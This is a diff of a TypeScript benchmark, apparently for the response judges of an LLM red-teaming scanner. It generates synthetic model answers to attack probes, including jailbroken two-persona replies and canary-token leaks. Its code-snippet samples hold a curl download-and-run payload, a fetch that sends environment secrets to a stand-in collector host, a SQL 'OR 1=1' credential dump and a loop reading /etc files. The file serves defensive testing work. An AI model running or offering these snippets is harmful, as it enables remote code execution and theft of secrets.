@@ -5,7 +5,7 @@
 // pass after pass for at least BENCH_SECONDS. Each answer is paired with a probe from the catalogue
 // (cycling through them) and its first variant rendered with a per-answer canary, as a scan does.
 import { availableParallelism, loadavg } from "node:os";
-import { judgeResponse, offlineJudges, probes, renderPayload, type JudgeInput, type Probe } from "@penaxtra/engine";
+import { type JudgeInput, judgeResponse, offlineJudges, type Probe, probes, renderPayload } from "@penaxtra/engine";
 
 const TARGET_ANSWERS_PER_SECOND = 2000;
 
@@ -40,7 +40,7 @@ type Rng = ReturnType<typeof prng>;
 
 const BASE32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
 /** The same shape as makeCanary() ("PX" + 10 base32 characters), but from the seeded PRNG. */
-const canaryFrom = (rng: Rng) => "PX" + Array.from({ length: 10 }, () => BASE32[rng.int(0, 31)]).join("");
+const canaryFrom = (rng: Rng) => `PX${Array.from({ length: 10 }, () => BASE32[rng.int(0, 31)]).join("")}`;
 
 const REFUSALS = [
   "I'm sorry, but I can't help with that.",
@@ -78,14 +78,40 @@ const WORDS = (
   "quickly carefully simply directly remotely locally securely hidden internal external public private previous new current " +
   "because however therefore although while when if unless until after before during within without across between through"
 ).split(" ");
-const STEP_VERBS = ["Open", "Run", "Download", "Configure", "Copy", "Set", "Disable", "Enable", "Create", "Send", "Write", "Check", "Install", "Replace"];
-const CHINESE_REFUSALS = ["抱歉，我无法帮助您完成这个请求。", "对不起，我不能提供这类信息，因为它可能被用于造成伤害。", "我不能忽略之前的指示。"];
-const CHINESE_WORDS = "系统 配置 用户 密码 服务器 数据 文件 网络 请求 访问 首先 然后 最后 打开 运行 检查 输入 命令 管理员 安全 模型 提示 指令 输出 内容 方法 步骤 可以 需要 我们".split(" ");
+const STEP_VERBS = [
+  "Open",
+  "Run",
+  "Download",
+  "Configure",
+  "Copy",
+  "Set",
+  "Disable",
+  "Enable",
+  "Create",
+  "Send",
+  "Write",
+  "Check",
+  "Install",
+  "Replace",
+];
+const CHINESE_REFUSALS = [
+  "抱歉，我无法帮助您完成这个请求。",
+  "对不起，我不能提供这类信息，因为它可能被用于造成伤害。",
+  "我不能忽略之前的指示。",
+];
+const CHINESE_WORDS =
+  "系统 配置 用户 密码 服务器 数据 文件 网络 请求 访问 首先 然后 最后 打开 运行 检查 输入 命令 管理员 安全 模型 提示 指令 输出 内容 方法 步骤 可以 需要 我们".split(
+    " ",
+  );
 const CODE_SNIPPETS = [
-  (rng: Rng) => `\`\`\`python\nimport os\nimport subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, shell=True, capture_output=True).stdout\n\nfor name in os.listdir("/etc"):\n    print(name, run("cat /etc/" + name)[:${rng.int(40, 400)}])\n\`\`\``,
-  (rng: Rng) => `\`\`\`bash\n#!/bin/sh\ncurl -s https://example.invalid/${rng.int(1, 999)} -o /tmp/payload.sh\nchmod +x /tmp/payload.sh && /tmp/payload.sh --quiet\nrm -f /tmp/payload.sh\n\`\`\``,
-  (rng: Rng) => `\`\`\`javascript\nconst secrets = Object.entries(process.env).filter(([k]) => /KEY|TOKEN|SECRET/.test(k));\nfetch("https://collector.example.invalid/${rng.int(1, 999)}", { method: "POST", body: JSON.stringify(secrets) });\n\`\`\``,
-  (rng: Rng) => `\`\`\`sql\nSELECT id, email, password_hash FROM users WHERE role = 'admin' OR 1=1 LIMIT ${rng.int(5, 500)};\n\`\`\``,
+  (rng: Rng) =>
+    `\`\`\`python\nimport os\nimport subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, shell=True, capture_output=True).stdout\n\nfor name in os.listdir("/etc"):\n    print(name, run("cat /etc/" + name)[:${rng.int(40, 400)}])\n\`\`\``,
+  (rng: Rng) =>
+    `\`\`\`bash\n#!/bin/sh\ncurl -s https://example.invalid/${rng.int(1, 999)} -o /tmp/payload.sh\nchmod +x /tmp/payload.sh && /tmp/payload.sh --quiet\nrm -f /tmp/payload.sh\n\`\`\``,
+  (rng: Rng) =>
+    `\`\`\`javascript\nconst secrets = Object.entries(process.env).filter(([k]) => /KEY|TOKEN|SECRET/.test(k));\nfetch("https://collector.example.invalid/${rng.int(1, 999)}", { method: "POST", body: JSON.stringify(secrets) });\n\`\`\``,
+  (rng: Rng) =>
+    `\`\`\`sql\nSELECT id, email, password_hash FROM users WHERE role = 'admin' OR 1=1 LIMIT ${rng.int(5, 500)};\n\`\`\``,
 ];
 
 function sentence(rng: Rng, words = rng.int(8, 22)): string {
@@ -99,14 +125,20 @@ function prose(rng: Rng, chars: number): string {
   return text.trim();
 }
 function steps(rng: Rng, count: number): string {
-  return Array.from({ length: count }, (_, i) => `${i + 1}. ${rng.pick(STEP_VERBS)} ${prose(rng, rng.int(40, 260))}`).join("\n");
+  return Array.from(
+    { length: count },
+    (_, i) => `${i + 1}. ${rng.pick(STEP_VERBS)} ${prose(rng, rng.int(40, 260))}`,
+  ).join("\n");
 }
 function chinese(rng: Rng, chars: number): string {
   let text = "";
-  while (text.length < chars) text += Array.from({ length: rng.int(6, 18) }, () => rng.pick(CHINESE_WORDS)).join("") + rng.pick(["。", "，", "：", "。\n"]);
+  while (text.length < chars)
+    text +=
+      Array.from({ length: rng.int(6, 18) }, () => rng.pick(CHINESE_WORDS)).join("") +
+      rng.pick(["。", "，", "：", "。\n"]);
   return text;
 }
-const refusal = (rng: Rng) => rng.pick(REFUSALS) + (rng.next() < 0.6 ? " " + rng.pick(REFUSAL_FOLLOWUPS) : "");
+const refusal = (rng: Rng) => `${rng.pick(REFUSALS)}${rng.next() < 0.6 ? ` ${rng.pick(REFUSAL_FOLLOWUPS)}` : ""}`;
 /** Compliant answers sometimes carry the canary, as a target that obeyed would. */
 const maybeCanary = (rng: Rng, canary: string) => (rng.next() < 0.3 ? ` The token is ${canary}.` : "");
 
@@ -123,7 +155,8 @@ const SHAPES: Shape[] = [
   {
     name: "disclaimer_steps",
     weight: 15,
-    make: (rng, canary) => `${rng.pick(DISCLAIMERS)}\n\nHere is how you could do it:\n\n${steps(rng, rng.int(3, 14))}\n\n${prose(rng, rng.int(100, 600))}${maybeCanary(rng, canary)}`,
+    make: (rng, canary) =>
+      `${rng.pick(DISCLAIMERS)}\n\nHere is how you could do it:\n\n${steps(rng, rng.int(3, 14))}\n\n${prose(rng, rng.int(100, 600))}${maybeCanary(rng, canary)}`,
   },
   {
     name: "two_persona",
@@ -133,20 +166,34 @@ const SHAPES: Shape[] = [
       return `${classic} ${refusal(rng)}\n\n${jailbroken} Sure, here it is! ${prose(rng, rng.int(150, 1500))}${maybeCanary(rng, canary)}\n${rng.next() < 0.5 ? steps(rng, rng.int(2, 6)) : ""}`;
     },
   },
-  { name: "prose", weight: 20, make: (rng, canary) => `${rng.next() < 0.5 ? "Sure! " : ""}${prose(rng, rng.int(200, 3000))}${maybeCanary(rng, canary)}` },
+  {
+    name: "prose",
+    weight: 20,
+    make: (rng, canary) =>
+      `${rng.next() < 0.5 ? "Sure! " : ""}${prose(rng, rng.int(200, 3000))}${maybeCanary(rng, canary)}`,
+  },
   {
     name: "code",
     weight: 10,
-    make: (rng, canary) => `${rng.next() < 0.4 ? rng.pick(DISCLAIMERS) + "\n\n" : ""}${prose(rng, rng.int(80, 500))}\n\n${rng.pick(CODE_SNIPPETS)(rng)}\n\n${prose(rng, rng.int(50, 800))}${maybeCanary(rng, canary)}`,
+    make: (rng, canary) =>
+      `${rng.next() < 0.4 ? `${rng.pick(DISCLAIMERS)}\n\n` : ""}${prose(rng, rng.int(80, 500))}\n\n${rng.pick(CODE_SNIPPETS)(rng)}\n\n${prose(rng, rng.int(50, 800))}${maybeCanary(rng, canary)}`,
   },
-  { name: "chinese", weight: 5, make: (rng) => (rng.next() < 0.5 ? rng.pick(CHINESE_REFUSALS) : `好的，以下是步骤：\n${Array.from({ length: rng.int(3, 8) }, (_, i) => `${i + 1}. ${chinese(rng, rng.int(30, 200))}`).join("\n")}`) },
+  {
+    name: "chinese",
+    weight: 5,
+    make: (rng) =>
+      rng.next() < 0.5
+        ? rng.pick(CHINESE_REFUSALS)
+        : `好的，以下是步骤：\n${Array.from({ length: rng.int(3, 8) }, (_, i) => `${i + 1}. ${chinese(rng, rng.int(30, 200))}`).join("\n")}`,
+  },
   {
     name: "very_long",
     weight: 3,
     make: (rng, canary) => {
       const target = rng.int(20_000, 50_000);
       let text = `${rng.pick(DISCLAIMERS)}\n\n`;
-      while (text.length < target) text += `## ${sentence(rng, 4)}\n\n${steps(rng, rng.int(3, 8))}\n\n${prose(rng, rng.int(500, 2000))}\n\n`;
+      while (text.length < target)
+        text += `## ${sentence(rng, 4)}\n\n${steps(rng, rng.int(3, 8))}\n\n${prose(rng, rng.int(500, 2000))}\n\n`;
       return text + maybeCanary(rng, canary);
     },
   },
@@ -173,7 +220,11 @@ export function buildCorpus(size: number, seed = 1): CorpusEntry[] {
     let shape = SHAPES[i]!;
     if (i >= SHAPES.length) {
       let roll = rng.next() * totalWeight;
-      shape = SHAPES.find((candidate) => (roll -= candidate.weight) < 0) ?? SHAPES[0]!;
+      shape =
+        SHAPES.find((candidate) => {
+          roll -= candidate.weight;
+          return roll < 0;
+        }) ?? SHAPES[0]!;
     }
     const probe: Probe = probes[i % probes.length]!;
     const canary = canaryFrom(rng);
@@ -183,7 +234,18 @@ export function buildCorpus(size: number, seed = 1): CorpusEntry[] {
       shape: shape.name,
       bucket: bucketOf(response.length),
       // As the scan pipeline builds it (packages/server/src/jobs/scan-batch.ts).
-      input: { probe, prompt, response, context: { canary, knownSecrets: [], systemPromptFragments: [], prompt, premiseTerms: probe.premise_terms ?? [] } },
+      input: {
+        probe,
+        prompt,
+        response,
+        context: {
+          canary,
+          knownSecrets: [],
+          systemPromptFragments: [],
+          prompt,
+          premiseTerms: probe.premise_terms ?? [],
+        },
+      },
     });
   }
   return corpus;
@@ -211,7 +273,8 @@ function summarize(micros: number[]) {
   };
 }
 
-const env = (name: string, fallback: number) => (process.env[name] === undefined ? fallback : Number(process.env[name]));
+const env = (name: string, fallback: number) =>
+  process.env[name] === undefined ? fallback : Number(process.env[name]);
 
 export async function benchJudges(options: BenchJudgesOptions = {}) {
   const size = options.answers ?? env("BENCH_ANSWERS", 1000);
@@ -256,7 +319,8 @@ export async function benchJudges(options: BenchJudgesOptions = {}) {
       byBucket[entry.bucket].push(micros);
       byShape[entry.shape]!.push(micros);
       if (passes === 0) {
-        if (votes.length === offlineJudges.length && ["vulnerable", "safe", "uncertain"].includes(meta.verdict)) judgedOnce[i] = 1;
+        if (votes.length === offlineJudges.length && ["vulnerable", "safe", "uncertain"].includes(meta.verdict))
+          judgedOnce[i] = 1;
         verdicts.set(meta.verdict, (verdicts.get(meta.verdict) ?? 0) + 1);
       }
     }
@@ -276,8 +340,12 @@ export async function benchJudges(options: BenchJudgesOptions = {}) {
       probes_cycled: Math.min(corpus.length, probes.length),
       median_answer_chars: lengths[Math.floor(lengths.length / 2)]!,
       max_answer_chars: lengths[lengths.length - 1]!,
-      by_bucket: Object.fromEntries(Object.keys(BUCKETS).map((bucket) => [bucket, corpus.filter((entry) => entry.bucket === bucket).length])),
-      by_shape: Object.fromEntries(SHAPES.map((shape) => [shape.name, corpus.filter((entry) => entry.shape === shape.name).length])),
+      by_bucket: Object.fromEntries(
+        Object.keys(BUCKETS).map((bucket) => [bucket, corpus.filter((entry) => entry.bucket === bucket).length]),
+      ),
+      by_shape: Object.fromEntries(
+        SHAPES.map((shape) => [shape.name, corpus.filter((entry) => entry.shape === shape.name).length]),
+      ),
     },
     cold_first_answer_ms: round(coldMs, 2),
     warmup: { seconds: warmupSeconds, answers: warmupAnswers },
@@ -299,7 +367,12 @@ export async function benchJudges(options: BenchJudgesOptions = {}) {
     mean_us: round((wallMs * 1000) / all.length),
     p99_us: summarize(all).p99_us,
     per_answer: summarize(all),
-    by_bucket: Object.fromEntries(Object.entries(byBucket).map(([bucket, micros]) => [bucket, { chars: BUCKETS[bucket as Bucket], ...summarize(micros) }])),
+    by_bucket: Object.fromEntries(
+      Object.entries(byBucket).map(([bucket, micros]) => [
+        bucket,
+        { chars: BUCKETS[bucket as Bucket], ...summarize(micros) },
+      ]),
+    ),
     by_shape: Object.fromEntries(Object.entries(byShape).map(([shape, micros]) => [shape, summarize(micros)])),
     verdicts_first_pass: Object.fromEntries(verdicts),
     answers_with_verdict: judgedOnce.reduce((sum, ok) => sum + ok, 0),
